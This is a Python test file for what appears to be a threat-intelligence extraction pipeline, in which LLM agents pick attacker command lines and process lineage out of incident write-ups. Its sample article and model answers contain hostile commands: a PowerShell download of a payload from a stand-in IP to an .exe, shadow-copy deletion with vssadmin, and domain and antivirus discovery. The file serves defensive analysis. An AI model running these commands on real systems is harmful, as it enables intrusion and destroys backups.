"""Extraction agents select pre-extractor candidates by number and add grounded new items; the result is
always the union with the floor. Through the LM Studio double (a real HTTP server) answering chosen JSON."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest

from ctistudio.config import load_settings
from ctistudio.llm import Gateway
from ctistudio.pipeline.extract import AGENTS, extract_observables, floor_observables, merge_answer
from ctistudio.pipeline.normalise import ArticleIndex
from ctistudio.pipeline.preextract import pre_extract
from ctistudio.pipeline.selection import answer_budget, selection_schema
from ctistudio.resources import demo_article
from ctistudio.testing.lmstudio_double import ChatCall, LMStudioDouble

ARTICLE = """# Intrusion notes

The operator downloaded the payload with PowerShell:

```
Invoke-WebRequest -Uri http://203.0.113.9/a.bin -OutFile C:\\Users\\Public\\a.exe
cmd.exe /c whoami /all
net group "Domain Admins" /domain
```

Later WINWORD.EXE spawned cmd.exe on the second host.
"""


def task_of(call: ChatCall) -> str:
    match = re.match(r"Task: ([A-Z ]+)\.", call.last_user)
    return match.group(1) if match else ""


def listed(call: ChatCall) -> dict[str, int]:
    """The candidates the agent was shown, text → number."""
    return {m.group(2): int(m.group(1)) for m in re.finditer(r"^(\d+): (.*)$", call.last_user, re.M)}


@pytest.fixture
def double(lmstudio_double: LMStudioDouble, monkeypatch: pytest.MonkeyPatch) -> LMStudioDouble:
    monkeypatch.setenv("LLM_PROVIDER", "lmstudio")
    return lmstudio_double


async def extract(article: str, **kwargs: Any):
    async with Gateway(load_settings()) as gateway:
        return await extract_observables(gateway, article, **kwargs)


def as_set(observables) -> set[tuple[str, str]]:
    return {(o.kind, o.value) for o in observables}


async def test_a_server_answering_empty_objects_yields_the_floor_for_every_kind(double: LMStudioDouble):
    double.responder = lambda call: "{}"
    article = demo_article()
    outcome = await extract(article)
    floor = await extract_observables(None, article)
    assert as_set(outcome.observables) == as_set(floor.observables)
    assert {o.kind for o in outcome.observables} >= {
        "cmdline",
        "lineage",
        "registry",
        "service",
        "scheduled_task",
        "network",
        "hunt_query",
    }
    assert {a.kind: a.mode for a in outcome.agents} == {a.kind: "pattern" for a in AGENTS}
    assert all(a.error == "the model's answer was empty ({})" for a in outcome.agents)
    assert outcome.by_origin() == {"model": 0, "pattern": len(outcome.observables)}
    assert len(double.requests_to("/v1/chat/completions")) == len(AGENTS)  # valid but empty: no repair round
    # the 14 command lines of the article, and the 4 that cmd.exe /c starts
    assert sum(c.kind == "cmdline" for c in pre_extract(article).candidates) == 18
    assert sum(o.kind == "cmdline" for o in outcome.observables) == 18


async def test_selected_candidates_and_grounded_new_items_join_the_floor(double: LMStudioDouble):
    def respond(call: ChatCall) -> str | None:
        if task_of(call) == "COMMAND LINES":
            numbers = listed(call)
            return json.dumps(
                {
                    "keep": [numbers["cmd.exe /c whoami /all"], numbers["cmd.exe /c whoami /all"]],
                    "new": [
                        "Invoke-WebRequest -Uri http://203.0.113.9/a.bin -OutFile C:\\Users\\Public\\a.exe",
                        'net group "Domain Admins" /domain',  # a candidate again: confirms it
                        "vssadmin delete shadows /all /quiet",  # not in the article
                        "The operator downloaded the payload",  # in the article, but not a command line
                    ],
                }
            )
        if task_of(call) == "PROCESS LINEAGE":
            return json.dumps(
                {
                    "keep": [],
                    "new": [
                        {"parent": "WINWORD", "child": "cmd.exe"},  # the floor's pair, written differently
                        {"parent": "explorer.exe", "child": "cmd.exe"},  # explorer is never named
                    ],
                }
            )
        return json.dumps({"keep": [], "new": []}) if "keep" in json.dumps(call.schema) else '{"new": []}'

    double.responder = respond
    outcome = await extract(ARTICLE, kinds=("cmdline", "lineage"))
    commands = {o.value: o for o in outcome.observables if o.kind == "cmdline"}
    floor = [c.value for c in pre_extract(ARTICLE).of("cmdline")]
    assert set(floor) <= set(commands)  # never below the floor
    assert commands["cmd.exe /c whoami /all"].origin == "model"
    assert commands['net group "Domain Admins" /domain'].origin == "model"
    added = commands["Invoke-WebRequest -Uri http://203.0.113.9/a.bin -OutFile C:\\Users\\Public\\a.exe"]
    assert added.origin == "model" and added.source_evidence == added.value  # the article's own line
    assert len(commands) == len(floor) + 1
    assert outcome.dropped_by_reason() == {"value_not_in_article": 2, "wrong_kind": 1}
    report = {a.kind: a for a in outcome.agents}
    assert (report["cmdline"].mode, report["cmdline"].confirmed, report["cmdline"].new) == ("model", 2, 1)
    pairs = {o.value: o.origin for o in outcome.observables if o.kind == "lineage"}
    assert pairs == {"cmd.exe → whoami.exe": "pattern", "WINWORD.EXE → cmd.exe": "model"}
    assert outcome.by_origin() == {"model": 4, "pattern": len(outcome.observables) - 4}


async def test_agent_requests_keep_the_prefix_layout_and_a_schema_of_the_listed_numbers(double: LMStudioDouble):
    double.responder = lambda call: json.dumps({"keep": [1], "new": []}) if "keep" in call.last_user else None
    article = demo_article()
    await extract(article)
    bodies = [r.body for r in double.requests_to("/v1/chat/completions")]
    assert len(bodies) == len(AGENTS)
    systems = {b["messages"][0]["content"] for b in bodies}
    articles = {b["messages"][1]["content"] for b in bodies}
    assert len(systems) == 1 and len(articles) == 1  # the shared prefix: rules, then the article
    commands = next(b for b in bodies if b["messages"][-1]["content"].startswith("Task: COMMAND LINES."))
    task = commands["messages"][-1]["content"]
    assert '\n1: "C:\\Windows\\System32\\mshta.exe" "C:\\Users\\Public\\Libraries\\open.hta"' in task
    assert "\n7: cmd.exe /c whoami /all\n8: whoami /all\n" in task
    assert "\n18: C:\\ProgramData\\svchosts.exe copy" in task
    schema = commands["response_format"]["json_schema"]["schema"]
    assert schema == selection_schema("cmdline", 18)
    assert schema["properties"]["keep"]["items"]["enum"] == list(range(1, 19))
    assert commands["max_tokens"] == answer_budget(18, article)
    lineage = next(b for b in bodies if b["messages"][-1]["content"].startswith("Task: PROCESS LINEAGE."))
    assert lineage["response_format"]["json_schema"]["schema"]["properties"]["new"]["items"]["required"] == [
        "parent",
        "child",
    ]


async def test_an_agent_with_no_candidates_gets_passages_and_only_a_new_list(double: LMStudioDouble):
    text = "The loader set persistence through the registry and talked to its server."
    double.responder = lambda call: json.dumps({"new": []})
    outcome = await extract(text, kinds=("registry",))
    [body] = [r.body for r in double.requests_to("/v1/chat/completions")]
    assert body["response_format"]["json_schema"]["schema"] == selection_schema("registry", 0)
    assert "no candidates" in body["messages"][-1]["content"]
    assert outcome.observables == [] and outcome.agents[0].mode == "model"


def test_every_floor_and_new_item_is_in_the_article():
    index = ArticleIndex(demo_article())
    for candidate in pre_extract(demo_article()).candidates:
        assert index.contains_any_line(candidate.evidence(demo_article()))


async def test_an_answer_cut_inside_a_looping_new_item_keeps_its_selection(double: LMStudioDouble):
    # a small model repeating itself inside a string until the answer budget: the JSON never closes
    looping = '{"keep": [1, 2], "new": ["net group \\"Domain Admins\\" /domain' + " /domain" * 2000
    double.responder = lambda call: looping if task_of(call) == "COMMAND LINES" else None
    outcome = await extract(ARTICLE, kinds=("cmdline",))
    [report] = outcome.agents
    assert (report.mode, report.confirmed, report.new) == ("model", 2, 0)
    assert len(double.requests_to("/v1/chat/completions")) == 1  # kept the complete part: no repair round


def test_a_new_item_copied_loosely_is_stored_as_the_articles_text_and_dedups_against_the_floor():
    article = "Discovery:\nWMIC /Node:localhost /Namespace:\\\\root\\SecurityCenter2 Path AntiVirusProduct Get *\n"
    index = ArticleIndex(article)
    # the model wrote one backslash where the article has two, and changed case and spacing
    written = "wmic /node:localhost  /namespace:\\root\\SecurityCenter2 path antivirusproduct get *"
    assert index.exact_text(written) == article.splitlines()[1]
    floor = floor_observables("cmdline", pre_extract(article).of("cmdline"), article)
    merged, dropped, report = merge_answer("cmdline", floor, {"new": [written]}, 0, index)
    assert [(o.value, o.origin) for o in merged] == [(article.splitlines()[1], "model")]
    assert (report.confirmed, report.new, dropped) == (1, 0, [])


def test_the_head_of_a_listed_command_line_is_not_a_new_command_line():
    # seen on the cmdline eval set: a 0.5B model re-quoted `cmd.exe /c` and `bash -c` of listed commands
    article = 'Command line: cmd.exe /c whoami\nCommand line: bash -c "nproc 2>&1"\nThen: net user DC-01$ P@ssw0rd\n'
    index = ArticleIndex(article)
    floor = floor_observables("cmdline", pre_extract(article).of("cmdline"), article)
    assert [o.value for o in floor] == ["cmd.exe /c whoami", 'bash -c "nproc 2>&1"', "net user DC-01$ P@ssw0rd"]
    answer = {"new": ["cmd.exe /c", "bash -c", "net user DC-01$", "whoami"]}
    merged, dropped, report = merge_answer("cmdline", floor, answer, 0, index)
    assert [o.value for o in merged] == [o.value for o in floor]
    assert [(d.value, d.reason) for d in dropped if d.reason == "part_of_candidate"] == [
        ("cmd.exe /c", "part_of_candidate"),
        ("bash -c", "part_of_candidate"),
        ("net user DC-01$", "part_of_candidate"),
    ]
    assert report.new == 0
